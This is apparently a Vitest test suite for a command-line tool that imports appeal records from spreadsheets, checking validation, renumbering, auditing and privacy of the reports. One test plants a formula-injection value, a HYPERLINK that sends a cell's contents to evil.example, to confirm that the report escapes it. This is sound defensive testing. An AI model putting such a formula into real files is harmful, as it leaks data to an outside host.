import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultAppeal, startTestSystem, type TestSystem } from '../app/testing/test-system.ts';
import { sampleMapping, sampleRegisterRows, sampleWorkbook } from '../server/appeals/import-sample.ts';
import { triageAppeal } from '../server/assist/triage-appeal.ts';
import { main } from './main.ts';

let t: TestSystem;
let dir: string;

async function run(args: string[]) {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  let err = '';
  stdout.on('data', (c) => {
    out += String(c);
  });
  stderr.on('data', (c) => {
    err += String(c);
  });
  const code = await main(args, { stdin: Readable.from(['']), stdout, stderr });
  return { code, out, err };
}

async function count(query: ReturnType<typeof sql<{ n: number }>>): Promise<number> {
  const { rows } = await query.execute(t.ownerDb);
  return Number(rows[0]?.n ?? -1);
}

const appeals = () => count(sql<{ n: number }>`select count(*)::int as n from appeals`);
const imported = () => count(sql<{ n: number }>`select count(*)::int as n from appeal_imports`);
const jobs = () =>
  count(
    sql<{
      n: number;
    }>`select count(*)::int as n from pgboss.job where name in ('notify-applicant', 'triage-appeal', 'notify-urgent')`,
  );

const ROWS = 3_000;
// Spreadsheet rows are these indices + 2 (the header is row 1).
const BAD = { 10: 'date', 500: 'status', 1234: 'text', 2998: 'unit' } as const;

beforeAll(async () => {
  t = await startTestSystem();
  Object.assign(process.env, t.env);
  dir = await mkdtemp(path.join(tmpdir(), 'murojaat-import-'));
  await writeFile(path.join(dir, 'mapping.json'), JSON.stringify(sampleMapping));
  await writeFile(path.join(dir, 'appeals.xlsx'), sampleWorkbook(sampleRegisterRows(ROWS, BAD)));
});
afterAll(async () => {
  await t?.stop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('murojaat import', () => {
  it('the example in docs/examples reads as docs/import.md says', async () => {
    const csv = path.join(dir, 'example.csv');
    await writeFile(csv, await readFile('docs/examples/import-appeals.csv'));
    const result = await run([
      'import',
      '--file',
      csv,
      '--mapping',
      'docs/examples/import-mapping.json',
      '--dry-run',
    ]);
    expect(result.out).toContain(
      '4 rows: 3 would be imported, 0 already imported, 1 refused, 2 would get a new number',
    );
    const report = await readFile(`${csv}.report.csv`, 'utf8');
    expect(report.split('\n').filter((l) => l.includes(',refused,'))).toEqual([
      '5,refused,Received,not a date (DD.MM.YYYY),,',
      '5,refused,Status,"unknown status ""Arxivda"" (add it to values.status)",,',
    ]);
  });

  it('a dry run checks and reports every row but writes nothing', async () => {
    const before = { appeals: await appeals(), imported: await imported() };
    const result = await run([
      'import',
      '--file',
      path.join(dir, 'appeals.xlsx'),
      '--mapping',
      path.join(dir, 'mapping.json'),
      '--dry-run',
    ]);
    expect(result.out).toContain(
      `${ROWS} rows: ${ROWS - 4} would be imported, 0 already imported, 4 refused`,
    );
    expect(result.out).toContain('Dry run: nothing was written');
    expect(result.code).toBe(1);
    expect({ appeals: await appeals(), imported: await imported() }).toEqual(before);
    const report = await readFile(path.join(dir, 'appeals.xlsx.report.csv'), 'utf8');
    expect(report.split('\n').filter((l) => l.includes(',refused,'))).toHaveLength(4);
  });

  it('imports the valid rows as appeals, lists exactly the bad rows, and quotes no personal data', async () => {
    const jobsBefore = await jobs();
    const auditBefore = await count(
      sql<{ n: number }>`select count(*)::int as n from audit_log where action = 'appeals.import'`,
    );
    const started = performance.now();
    const result = await run([
      'import',
      '--file',
      path.join(dir, 'appeals.xlsx'),
      '--mapping',
      path.join(dir, 'mapping.json'),
    ]);
    const seconds = (performance.now() - started) / 1000;
    expect(result.code).toBe(1);
    expect(result.out).toMatch(
      new RegExp(`${ROWS} rows: ${ROWS - 4} imported, 0 already imported, 4 refused`),
    );
    expect(result.out + result.err).not.toMatch(/Karimov|Yunusobod tumani|\+998/);
    const report = await readFile(path.join(dir, 'appeals.xlsx.report.csv'), 'utf8');
    const refused = report
      .split('\n')
      .filter((l) => l.includes(',refused,'))
      .map((l) => l.split(',').slice(0, 3).join(','));
    expect(refused).toEqual([
      '12,refused,Received',
      '502,refused,Status',
      '1236,refused,Text',
      '3000,refused,Unit',
    ]);
    expect(report).toContain('Lost in the archive');
    expect(report).not.toMatch(/Karimov|\+998/);
    console.log(`imported ${ROWS} rows in ${seconds.toFixed(1)} s`);

    expect(await imported()).toBe(ROWS - 4);
    // No notice, no triage, nothing queued; one audit entry for the run.
    expect(await jobs()).toBe(jobsBefore);
    const audit = await sql<{ actor_label: string; data: Record<string, unknown> }>`
      select actor_label, data from audit_log where action = 'appeals.import' order by id`.execute(t.ownerDb);
    expect(audit.rows.length - auditBefore).toBe(1);
    expect(audit.rows.at(-1)?.actor_label).toMatch(/^cli-import:/);
    expect(audit.rows.at(-1)?.data).toMatchObject({ rows: ROWS, refused: 4, toImport: ROWS - 4 });
  });

  it('keeps numbers that are ours, renumbers the rest and keeps their old number', async () => {
    const kept = await sql<{
      number: string;
      status: string;
      outcome: string | null;
      closed_at: Date | null;
    }>`
      select number, status, outcome, closed_at from appeals where number = 'IIV-2024-0000001'`.execute(
      t.ownerDb,
    );
    expect(kept.rows[0]).toMatchObject({ status: 'answered', outcome: 'explained' });
    // Row index 3 had the foreign number 2025/4.
    const mapped = await sql<{ number: string; source_number: string }>`
      select a.number, i.source_number from appeal_imports i join appeals a on a.id = i.appeal_id
      where i.import_key = 'ext:OLD-4'`.execute(t.ownerDb);
    expect(mapped.rows[0]?.source_number).toBe('2025/4');
    expect(mapped.rows[0]?.number).toMatch(/^IIV-2025-\d{7}$/);
    const answers = await count(sql<{ n: number }>`
      select count(*)::int as n from answers w join appeal_imports i on i.appeal_id = w.appeal_id
      where w.status = 'approved' and w.kind = 'answer'`);
    const answered = await count(sql<{ n: number }>`
      select count(*)::int as n from appeals a join appeal_imports i on i.appeal_id = a.id where a.status = 'answered'`);
    expect(answers).toBe(answered);
    expect(answered).toBeGreaterThan(ROWS * 0.8);
  });

  it('running the same file again adds nothing', async () => {
    const before = await appeals();
    const audits = () =>
      count(sql<{ n: number }>`select count(*)::int as n from audit_log where action = 'appeals.import'`);
    const auditBefore = await audits();
    const result = await run([
      'import',
      '--file',
      path.join(dir, 'appeals.xlsx'),
      '--mapping',
      path.join(dir, 'mapping.json'),
    ]);
    expect(result.out).toContain(`${ROWS} rows: 0 imported, ${ROWS - 4} already imported, 4 refused`);
    expect(await appeals()).toBe(before);
    expect(await audits()).toBe(auditBefore + 1);
    expect(await imported()).toBe(ROWS - 4);
    const verified = await run(['audit', 'verify']);
    expect(verified.out).toContain('Audit log intact');
  });

  it('imported appeals count in the dashboard and answer similar-answer search', async () => {
    const appHead = await t.staff('head-app', 'head', 'IIV-1726266-APP');
    const dashboard = await appHead.request({ method: 'GET', url: '/api/v1/dashboard' });
    expect(dashboard.statusCode).toBe(200);
    const openImported = await count(sql<{ n: number }>`
      select count(*)::int as n from appeals a join appeal_imports i on i.appeal_id = a.id
      join units u on u.id = a.owner_unit_id where u.code = 'IIV-1726266-APP' and a.status = 'in_progress'`);
    expect(openImported).toBeGreaterThan(0);
    expect(dashboard.json().load.open).toBe(openImported);

    const head = await t.staff('head1', 'head', 'IIV-1726266', { scopeSubtree: true });
    const { number } = await t.fileAppeal({
      text: 'Telefonimni bozorda oʻgʻirlab ketishdi, topishga yordam bering.',
    });
    const similar = await head.request({ method: 'GET', url: `/api/v1/appeals/${number}/similar` });
    expect(similar.statusCode).toBe(200);
    const found: { number: string; answer: string }[] = similar.json().items ?? similar.json();
    expect(found.length).toBeGreaterThan(0);
    const importedNumbers = await sql<{ number: string }>`
      select a.number from appeals a join appeal_imports i on i.appeal_id = a.id`.execute(t.ownerDb);
    const ours = new Set(importedNumbers.rows.map((r) => r.number));
    expect(found.some((f) => ours.has(f.number))).toBe(true);
  });

  it('a new appeal from the phone of an imported one is found as its repeat', async () => {
    // Row index 0 of the sample has the phone +998 90 000 00 00.
    const { number } = await t.fileAppeal({
      applicant: { ...defaultAppeal.applicant, phone: '+998 90 000 00 00' },
      text: 'Yana murojaat qilaman, oldingi javobdan keyin ham telefon topilmadi.',
    });
    const filed = await sql<{ id: number }>`select id from appeals where number = ${number}`.execute(
      t.ownerDb,
    );
    const id = Number(filed.rows[0]?.id);
    await triageAppeal(t.system.ctx, id);
    const links = await sql<{ source_number: string | null }>`
      select i.source_number from appeal_links l join appeal_imports i on i.appeal_id = l.other_id
      where l.appeal_id = ${id} and l.kind = 'repeat'`.execute(t.ownerDb);
    expect(links.rows.map((r) => r.source_number)).toContain('IIV-2024-0000001');
  });

  it('attack: a number written as a spreadsheet formula is not a formula in the report', async () => {
    const rows = sampleRegisterRows(2, {}, 'FORMULA');
    const first = rows[1];
    if (first) first[1] = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const csv = path.join(dir, 'formula.csv');
    const quote = (v: unknown) => `"${String(v ?? '').replace(/"/g, '""')}"`;
    await writeFile(csv, rows.map((r) => r.map(quote).join(',')).join('\n'));
    const result = await run([
      'import',
      '--file',
      csv,
      '--mapping',
      path.join(dir, 'mapping.json'),
      '--dry-run',
    ]);
    expect(result.out).toContain('2 rows: 2 would be imported');
    const report = await readFile(`${csv}.report.csv`, 'utf8');
    const line = report.split('\n').find((l) => l.startsWith('2,renumbered,'));
    expect(line?.split(',')[4]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1`);
  });

  it('does not keep a number another appeal already has', async () => {
    // The sample imported above kept IIV-2024-0000101, which the example's first row also carries.
    const result = await run([
      'import',
      '--file',
      path.join(dir, 'example.csv'),
      '--mapping',
      'docs/examples/import-mapping.json',
      '--dry-run',
    ]);
    expect(result.out).toContain(
      '4 rows: 3 would be imported, 0 already imported, 1 refused, 3 would get a new number',
    );
    const report = await readFile(path.join(dir, 'example.csv.report.csv'), 'utf8');
    expect(report).toContain('2,renumbered,,the number is not ours or is taken,IIV-2024-0000101,');
  });

  it('refuses a mapping that names a column the file lacks, before touching the database', async () => {
    await writeFile(
      path.join(dir, 'bad-mapping.json'),
      JSON.stringify({ ...sampleMapping, columns: { ...sampleMapping.columns, text: 'Matn' } }),
    );
    const result = await run([
      'import',
      '--file',
      path.join(dir, 'appeals.xlsx'),
      '--mapping',
      path.join(dir, 'bad-mapping.json'),
    ]);
    expect(result.code).toBe(1);
    expect(result.err).toContain('"Matn" (for text)');
  });
});
